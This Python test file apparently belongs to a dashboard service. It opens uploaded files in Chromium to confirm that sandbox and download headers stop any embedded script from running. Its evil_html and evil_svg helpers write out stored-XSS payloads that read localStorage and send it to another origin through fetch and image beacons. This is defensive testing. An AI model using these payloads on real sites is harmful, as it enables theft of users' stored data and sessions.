"""Uploaded files opened in a real browser (Debian's Chromium via Playwright) as a victim
would: a readToken link clicked while the dashboard is logged in, in the same browser.
Nothing in the file may run (API.md §6.4)."""

from __future__ import annotations

import base64
from collections.abc import AsyncIterator
from typing import Any

import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import Error as PlaywrightError

from tests import dashboard_page
from tests.conftest import Api
from tests.dashboard_page import in_browser_loop, needs_chromium
from tests.test_attachments import upload
from tests.test_dashboard import PNG_1PX, login

pytestmark = [needs_chromium, in_browser_loop]
# The run's one Chromium and this test's servers, in the browser tests' loop.
api, make_api, browser = dashboard_page.api, dashboard_page.make_api, dashboard_page.browser


@pytest_asyncio.fixture(loop_scope="session")
async def hits() -> AsyncIterator[tuple[str, list[str]]]:
    """An endpoint on another origin that records every request a file's script makes."""
    recorded: list[str] = []

    async def record(request: web.Request) -> web.Response:
        recorded.append(request.path_qs)
        return web.Response(text="ok", headers={"Access-Control-Allow-Origin": "*"})

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    server = TestServer(app, host="127.0.0.1")
    await server.start_server()
    yield str(server.make_url("/hit")), recorded
    await server.close()


def evil_html(hit: str) -> bytes:
    return f"""<!doctype html><html><head><title>report</title></head><body>
<p>quarterly report</p>
<script>
document.title = 'pwned';
try {{ localStorage.setItem('pwned', '1'); }} catch (e) {{}}
let stolen = '';
try {{ stolen = JSON.stringify(localStorage); }} catch (e) {{}}
fetch('{hit}?from=html&stolen=' + encodeURIComponent(stolen), {{mode: 'no-cors'}});
new Image().src = '{hit}?from=html-img';
</script></body></html>""".encode()


def evil_svg(hit: str) -> bytes:
    return f"""<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('{hit}?from=svg-onload')">
<script>document.title = 'pwned'; fetch('{hit}?from=svg', {{mode: 'no-cors'}});
try {{ localStorage.setItem('pwned', '1'); }} catch (e) {{}}</script>
<circle cx="5" cy="5" r="5"/></svg>""".encode()


def check_headers(headers: dict[str, str], disposition: str) -> None:
    assert headers["x-content-type-options"] == "nosniff", headers
    assert "sandbox" in [p.strip() for p in headers["content-security-policy"].split(";")]
    assert headers["content-disposition"].startswith(disposition + ";"), headers


async def test_an_uploaded_page_or_svg_runs_nothing_when_its_link_is_opened(
    api: Api, browser: Any, hits: tuple[str, list[str]]
) -> None:
    hit, recorded = hits
    # The victim is logged in to the dashboard in this browser.
    victim = await api.register()
    context = await browser.new_context(accept_downloads=True)
    dashboard = await context.new_page()
    dashboard.set_default_timeout(10_000)
    await login(dashboard, str(api.client.make_url(f"/{victim}/")), victim)

    # Positive control: the same script, rendered as a page, does reach the recorder.
    control = await context.new_page()
    await control.set_content(evil_html(hit).decode())
    await control.wait_for_function("document.title === 'pwned'")
    await control.wait_for_timeout(300)
    assert any("from=html" in r for r in recorded), recorded
    recorded.clear()
    await control.close()

    # Any user may upload to their own channel and send the readToken link.
    attacker, attacker_session = await api.user()
    channel = await api.channel(attacker, attacker_session)
    files = [
        ("report.html", evil_html(hit), "text/html", "attachment"),
        ("drawing.svg", evil_svg(hit), "image/svg+xml", "attachment"),
        ("page.xhtml", evil_html(hit), "application/xhtml+xml", "attachment"),
        ("looks.png", evil_html(hit), "image/png", "inline"),  # a lie: stays an image
        ("notes.txt", evil_html(hit), "text/plain", "inline"),  # shown as text
    ]
    for name, data, content_type, disposition in files:
        event_id, attachment = await upload(
            api, attacker, attacker_session, channel, name, data, content_type
        )
        link = str(
            api.client.make_url(
                f"/{attacker}/{channel}/events/{event_id}/{name}"
                f"?readToken={attachment['readToken']}"
            )
        )
        tab = await context.new_page()
        tab.set_default_timeout(10_000)
        responses: list[Any] = []
        tab.on("response", lambda r, seen=responses: seen.append(r))
        if disposition == "attachment":
            async with tab.expect_download() as download_info:
                try:
                    await tab.goto(link)
                except PlaywrightError:
                    pass  # the navigation becomes a download: no page is made of it
            download = await download_info.value
            assert download.suggested_filename == name
        else:
            await tab.goto(link)
            assert await tab.title() != "pwned"
        await tab.wait_for_timeout(500)  # time for any script to act
        [response] = [r for r in responses if "readToken" in r.url]
        check_headers(await response.all_headers(), disposition)
        assert recorded == [], (name, recorded)
        await tab.close()

    assert await dashboard.title() != "pwned"
    assert await dashboard.evaluate("localStorage.getItem('pwned')") is None
    await context.close()


async def test_a_real_image_link_still_displays(api: Api, browser: Any) -> None:
    """The sandbox policy does not stop an image opened on its own from showing."""
    username, session = await api.user()
    channel = await api.channel(username, session)
    png = base64.b64decode(PNG_1PX)
    event_id, attachment = await upload(
        api, username, session, channel, "dot.png", png, "image/png"
    )
    page = await browser.new_page()
    link = f"/{username}/{channel}/events/{event_id}/dot.png?readToken={attachment['readToken']}"
    response = await page.goto(str(api.client.make_url(link)))
    assert response is not None and response.status == 200
    check_headers(await response.all_headers(), "inline")
    await page.wait_for_function(
        "document.images.length === 1 && document.images[0].naturalWidth === 1"
    )
    await page.close()
